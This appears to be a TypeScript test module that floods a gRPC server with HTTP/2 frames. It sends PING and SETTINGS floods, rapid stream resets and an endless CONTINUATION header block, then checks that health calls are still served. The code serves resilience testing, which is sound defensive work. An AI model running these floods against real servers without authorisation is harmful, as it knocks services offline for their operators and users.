/**
 * Attacks with HTTP/2 itself: frames that cost their sender little and the server more. Node and its nghttp2 bound
 * them; this shows that they still do in the version that runs, and that others are served meanwhile.
 */
import { beginCall, openSession } from '@soar/grpc-kit/testing';
import { once } from 'node:events';
import { connect as connectTcp, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Attack, Seen } from './attack.js';
import { HEALTH_CHECK, honestCall, type Target } from './target.js';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const SETTINGS = 4;
const PING = 6;
const HEADERS = 1;
const CONTINUATION = 9;

/** A frame of HTTP/2 (RFC 9113, 4.1). */
function frame(type: number, streamId: number, payload: Uint8Array): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(type, 3);
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

async function openSocket({ address, tls }: Target): Promise<Socket> {
  const at = {
    host: address.replace(/:\d+$/, '').replace(/^\[|\]$/g, ''),
    port: Number(address.split(':').at(-1)),
  };
  const socket = tls === undefined ? connectTcp(at) : connectTls({ ...at, ...tls, ALPNProtocols: ['h2'] });
  socket.on('error', () => undefined);
  await once(socket, tls === undefined ? 'connect' : 'secureConnect');
  socket.write(Buffer.concat([PREFACE, frame(SETTINGS, 0, new Uint8Array())]));
  socket.resume();
  return socket;
}

async function healthy(target: Target, what: string): Promise<Seen> {
  const start = performance.now();
  const ok = (await honestCall(target, HEALTH_CHECK)) === 0;
  return {
    ok,
    text: `${what}; health ${ok ? `OK in ${Math.round(performance.now() - start)} ms` : 'no answer'}`,
  };
}

/** Sends `frames` many times over, as fast as the socket takes them. */
function flood(name: string, frames: (i: number) => Buffer): Attack {
  return {
    name,
    promised: 'others are served',
    run: async (target, { calls }) => {
      const socket = await openSocket(target);
      let sent = 0;
      for (let i = 0; i < 20 * calls && !socket.destroyed; i++) {
        sent++;
        if (!socket.write(frames(i))) await Promise.race([once(socket, 'drain').catch(() => 0), sleep(200)]);
      }
      await sleep(50);
      const end = socket.destroyed ? 'then closed by the server' : 'still open';
      const seen = await healthy(target, `${sent} sent, ${end}`);
      socket.destroy();
      return seen;
    },
  };
}

const resets: Attack = {
  name: 'calls that are reset at once',
  promised: 'others are served',
  run: async (target, { calls }) => {
    const session = await openSession(target);
    for (let i = 0; i < 5 * calls && !session.destroyed; i++) {
      const { stream } = beginCall(session, HEALTH_CHECK);
      stream.close();
      if (i % 200 === 199) await sleep(1);
    }
    await sleep(50);
    const seen = await healthy(target, session.destroyed ? 'closed by the server' : 'all reset');
    session.destroy();
    return seen;
  },
};

export const floods: readonly Attack[] = [
  resets,
  flood('pings', () => frame(PING, 0, new Uint8Array(8))),
  flood('settings', () => frame(SETTINGS, 0, new Uint8Array())),
  // A header block that never ends: no frame has the flag END_HEADERS. 0x88 is ":status: 200" in HPACK.
  flood('header blocks without an end', (i) =>
    frame(i === 0 ? HEADERS : CONTINUATION, 1, new Uint8Array(1_024).fill(0x88)),
  ),
];
